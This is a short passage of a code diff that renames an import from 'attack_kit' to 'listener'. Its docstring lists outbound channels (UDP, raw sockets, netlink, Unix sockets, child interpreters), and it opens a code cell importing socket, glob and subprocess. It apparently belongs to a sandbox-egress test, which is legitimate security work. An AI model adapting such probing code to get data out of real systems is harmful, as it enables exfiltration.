@@ -1,6 +1,6 @@
 """Reach out by UDP, a raw socket, netlink, a Unix socket, a child's interpreter."""
 
-from attack_kit import PORT
+from listener import PORT
 
 CELL = f"""\
 import glob, socket, subprocess, sys
